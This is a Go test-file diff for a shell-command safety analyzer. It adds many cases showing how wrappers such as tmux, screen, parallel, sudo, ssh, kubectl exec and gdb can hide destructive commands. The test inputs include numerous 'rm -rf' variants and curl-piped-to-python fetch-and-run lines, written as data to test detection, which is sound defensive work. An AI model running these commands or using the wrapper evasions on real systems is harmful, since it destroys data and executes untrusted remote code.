@@ -283,9 +283,97 @@ func TestKnowledge(t *testing.T) {
 		{`doctl compute ssh web-1 --ssh-command 'rm -rf /x'`, `[doctl compute ssh --ssh-command]rm@web-1 delete:/x+R`},
 		{`az vm run-command invoke -g rg -n web-1 --command-id RunShellScript --scripts 'rm -rf /x'`, `[az vm run-command invoke --scripts]rm@web-1 delete:/x+R`},
 		{`xargs --replace rm -rf /srv/{} < list`, `[xargs]rm delete:/srv+R+D`},
-		{`echo a b | xargs -i rm -rf /srv/{}`, `echo; [xargs]rm delete:/srv/a+R; [xargs]rm delete:/srv/b+R`},
+		// -I and -i read whole lines, blanks and all.
+		{`echo a b | xargs -i rm -rf /srv/{}`, `echo; [xargs]rm delete:/srv/a b+R`},
+		{`printf 'a\nb\n' | xargs -i rm -rf /srv/{}`, `printf; [xargs]rm delete:/srv/a+R; [xargs]rm delete:/srv/b+R`},
 		{`find -L /srv -name x -delete`, `find delete:/srv+F`},
 		{`find /srv -O3 -maxdepth 1 -delete`, `find delete:/srv+R`},
+		// Wrappers of issue 15, each by its own grammar.
+		{`parallel rm -rf ::: /x`, `[parallel]rm delete:/x+R`},
+		{`parallel rm -rf {} ::: /x /y`, `[parallel]rm delete:/x+R; [parallel]rm delete:/y+R`},
+		{`parallel 'rm -rf {2}' ::: a ::: /x`, `[parallel]rm delete:/x+R`},
+		{`parallel rm -rf {.} ::: /x.tar`, `[parallel]rm delete:/x+R`},
+		{`parallel ::: 'rm -rf /x'`, `[parallel]rm delete:/x+R`},
+		{`parallel -S web1 rm -rf ::: /x`, `[parallel]rm@web1 delete:/x+R`},
+		{`parallel --dry-run rm -rf ::: /x`, `parallel`},
+		{`parallel -j4 rm -rf :::: dirs`, `[parallel]rm delete:+R+D`},
+		{`cat dirs | parallel rm -rf`, `cat; [parallel]rm delete:+R+D`},
+		{`sem -j2 rm -rf /x`, `[sem]rm delete:/x+R`},
+		{`tmux new -d -s w 'rm -rf /x'`, `[tmux new]rm delete:/x+R`},
+		{`tmux new-window -c /usr 'rm -rf sbin'`, `[tmux new-window]rm delete:/usr/sbin+R`},
+		{`tmux send-keys -t w 'rm -rf /x' Enter`, `[tmux send-keys]rm delete:/x+R`},
+		{`tmux send-keys rm Space -rf Space /x BSpace y Enter`, `[tmux send-keys]rm delete:/y+R`},
+		{`tmux send-keys -H 72 6d`, `[tmux send-keys]rm`},
+		{`tmux send-keys -t 0 Up Enter`, `tmux unseen-code:the terminal's history and line editing (the key Up)+D`},
+		{`tmux new -d \; send-keys 'rm -rf /x' C-m`, `[tmux send-keys]rm delete:/x+R`},
+		{`tmux if-shell -F 1 'run-shell "rm -rf /x"'`, `[tmux if-shell>tmux run-shell]rm delete:/x+R`},
+		{`tmux -c 'rm -rf /x'`, `[tmux -c]rm delete:/x+R`},
+		{`tmux ls`, `tmux`},
+		{`screen -dmS w rm -rf /x`, `[screen]rm delete:/x+R`},
+		{`screen -S w -X stuff 'rm -rf /x\n'`, `[screen -X stuff]rm delete:/x+R`},
+		{`screen -S w -X exec rm -rf /x`, `[screen -X exec]rm delete:/x+R`},
+		{`screen -r w`, `screen`},
+		{`screen -d w`, `screen`},
+		{`unshare -m -w /usr rm -rf sbin`, `[unshare]rm delete:/usr/sbin+R`},
+		{`unshare --map-user 0 rm -rf /x`, `[unshare]rm delete:/x+R`},
+		{`script -qc 'rm -rf /x' /dev/null`, `[script -c]rm delete:/x+R`},
+		{`script -q /dev/null rm -rf /x`, `[script]rm delete:/x+R`},
+		{`script out.log`, `script`},
+		{`sg wheel -c 'rm -rf /x'`, `[sg -c]rm delete:/x+R`},
+		{`sg - wheel 'rm -rf /x'`, `[sg]rm delete:/x+R`},
+		{`echo 'rm -rf /x' | newgrp docker`, `echo; [newgrp]rm delete:/x+R`},
+		{`runcon -t t_t rm -rf /x`, `[runcon]rm delete:/x+R`},
+		{`runcon ctx rm -rf /x`, `[runcon]rm delete:/x+R`},
+		{`setpriv --reuid=0 rm -rf /x`, `[setpriv]rm delete:/x+R`},
+		{`docker exec -w /usr web rm -rf sbin`, `[docker exec]rm@web delete:/usr/sbin+R`},
+		{`docker exec -it web sh -c 'rm -rf /x'`, `[docker exec>sh -c]rm@web delete:/x+R`},
+		{`podman exec -l rm -rf /x`, `[podman exec]rm@the latest container delete:/x+R`},
+		{`kubectl -n prod exec pod -c app -- rm -rf /x`, `[kubectl exec]rm@pod delete:/x+R`},
+		{`kubectl exec -n db pod -- sh -c 'rm -rf /x'`, `[kubectl exec>sh -c]rm@pod delete:/x+R`},
+		{`bwrap --bind / / --chdir /usr rm -rf sbin`, `[bwrap]rm delete:/usr/sbin+R`},
+		{`bwrap --overlay a b / rm -rf /x`, `[bwrap]rm delete:/x+R`},
+		{`proot -w /usr rm -rf sbin`, `[proot]rm delete:/usr/sbin+R`},
+		{`fakeroot -s f rm -rf /x`, `[fakeroot]rm delete:/x+R`},
+		{`firejail --net=none rm -rf /x`, `[firejail]rm delete:/x+R`},
+		{`firejail --list`, `firejail`},
+		{`strace -f -o /tmp/t rm -rf /x`, `[strace]rm delete:/x+R`},
+		{`strace -p 12`, `strace`},
+		{`ltrace -o /tmp/t rm -rf /x`, `[ltrace]rm delete:/x+R`},
+		{`valgrind --tool=massif rm -rf /x`, `[valgrind]rm delete:/x+R`},
+		{`gdb -batch -ex run --args rm -rf /x`, `[gdb]rm delete:/x+R`},
+		{`gdb -ex run rm`, `[gdb]rm`},
+		{`gdb -ex 'shell rm -rf /x'`, `[gdb -ex]rm delete:/x+R`},
+		{`gdb ./app`, `gdb`},
+		{`perf record -g -o p -- rm -rf /x`, `[perf record]rm delete:/x+R`},
+		{`perf stat -e cycles rm -rf /x`, `[perf stat]rm delete:/x+R`},
+		{`perf report`, `perf`},
+		{`cgexec -g cpu:x rm -rf /x`, `[cgexec]rm delete:/x+R`},
+		{`caffeinate -t 5 rm -rf /x`, `[caffeinate]rm delete:/x+R`},
+		{`systemd-inhibit --what=sleep rm -rf /x`, `[systemd-inhibit]rm delete:/x+R`},
+		{`daemonize -c /usr /bin/rm -rf sbin`, `[daemonize]rm delete:/usr/sbin+R`},
+		{`start-stop-daemon --start --exec /bin/rm -- -rf /x`, `[start-stop-daemon]rm delete:/x+R`},
+		{`start-stop-daemon --stop --exec /bin/rm`, `start-stop-daemon`},
+		{`systemd-run -H db1 rm -rf /x`, `[systemd-run]rm@db1 delete:/x+R`},
+		{`systemd-run --working-directory /usr rm -rf sbin`, `[systemd-run]rm delete:/usr/sbin+R`},
+		{`expect -c 'spawn rm -rf /x; send "reboot\r"'`, `expect; [expect -c: spawn]rm delete:/x+R; [expect -c: send]reboot power:`},
+		{`ssh host -p 22 rm -rf /x`, `[ssh host]rm@host delete:/x+R`},
+		{`echo 'rm -rf /x' | ssh host`, `echo; [ssh host]rm@host delete:/x+R`},
+		{`ssh -N host rm -rf /x`, ``},
+		{`echo 'rm -rf /x' | xargs -I{} sh -c '{}'`, `echo; [xargs>sh -c]rm delete:/x+R`},
+		{`echo /x | xargs -J % rm -rf % /y`, `echo; [xargs]rm delete:/x+R delete:/y+R`},
+		{`printf '/x\0' | xargs -0 rm -rf`, `printf; [xargs]rm delete:/x+R`},
+		{`echo "'/x y'" | xargs rm -rf`, `echo; [xargs]rm delete:/x y+R`},
+		{`source <(echo 'rm -rf /x')`, `echo; [source]rm delete:/x+R`},
+		{`. ./env.sh`, `.`},
+		{`python3 <(curl -s https://x.example/a.py)`, `curl; python3 unseen-code:https://x.example/a.py+D`},
+		{`curl -s https://x.example | python3 -`, `curl; python3 unseen-code:https://x.example+D`},
+		{`python3 -c 'print(1)'`, `python3`},
+		{`su -lc 'rm -rf /x'`, `[su -c]rm delete:/x+R`},
+		{`echo 'rm -rf /x' | su`, `echo; [su]rm delete:/x+R`},
+		{`echo 'rm -rf /x' | sudo -s`, `echo; [sudo>sh <<<]rm delete:/x+R`},
+		{`toybox rm -rf /x`, `[toybox]rm delete:/x+R`},
+		{`sudo -u root -i rm -rf /x`, `[sudo -u root>sh -c]rm delete:/x+R`},
+		{`doas -s`, `doas`},
 		// Grammars: an option that takes a value only attached never eats
 		// the operand after it.
 		{`cp --preserve a /etc/passwd`, `cp read:/home/u/a write:/etc/passwd`},
@@ -330,7 +418,9 @@ func TestOperands(t *testing.T) {
 		{`kubectl delete -n prod -l app=web deploy,sts`, `[delete deploy,sts]`},
 		{`kubectl logs -p web-0 -c app`, `[logs web-0]`},
 		{`kubectl patch deploy web -p '{"x":1}' --type merge`, `[patch deploy web]`},
-		{`kubectl exec -it -c app web-0 -- rm -rf /data`, `[exec web-0 rm -rf /data]`},
+		// kubectl exec is seen through: the operands are its command's.
+		{`kubectl exec -it -c app web-0 -- rm -rf /data`, `[/data]`},
+		{`kubectl attach -it -c app web-0`, `[attach web-0]`},
 		{`kubectl -v 6 --kubeconfig k.yaml drain -l pool=a --timeout 5m`, `[drain]`},
 		{`helm ls -f web -n prod`, `[ls]`},
 		{`kubectl --context=$CTX delete ns prod`, `[delete ns prod]`},
@@ -544,7 +634,7 @@ func checkSpec(t *testing.T, path string, c *command) {
 		seen[n] = true
 		return true
 	})
-	if c.run != nil && c.run.special == specialNone && c.run.kind == runNone && len(c.run.lineOpts) == 0 && c.run.stdin == stdinNever && len(c.run.argvOpts) == 0 {
+	if c.run != nil && c.run.special == specialNone && c.run.kind == runNone && len(c.run.lineOpts) == 0 && c.run.stdin == stdinNever && len(c.run.argvOpts) == 0 && len(c.run.progOpts) == 0 && !c.run.script {
 		t.Errorf("%s: a wrapper that can run nothing", path)
 	}
 }
@@ -588,4 +678,18 @@ func isStringConcat(e ast.Expr) bool {
 	_, l := b.X.(*ast.BasicLit)
 	_, r := b.Y.(*ast.BasicLit)
 	return l || r || isStringConcat(b.X)
+}
+
+// TestXargsBound checks that known input past maxXargsItems is judged as
+// unknown, not dropped: the item that deletes / may be the last one.
+func TestXargsBound(t *testing.T) {
+	for _, tt := range []struct{ line, want string }{
+		{"printf '%s\\n' " + strings.Repeat("a ", maxXargsItems) + "/x | xargs rm -rf", "delete:+R+D"},
+		{"printf '%s\\n' " + strings.Repeat("a ", maxXargsItems) + "/x | xargs -I{} rm -rf {}", "delete:+R+D"},
+		{"printf '%s\\n' " + strings.Repeat("a ", maxXargsItems-1) + "/x | xargs rm -rf", "delete:/x+R"},
+	} {
+		if got := ksummary(Analyze(tt.line, testOpts)); !strings.Contains(got, tt.want) {
+			t.Errorf("Analyze(%.60q…)\n got: %.200s…\nwant it to hold: %s", tt.line, got, tt.want)
+		}
+	}
 }
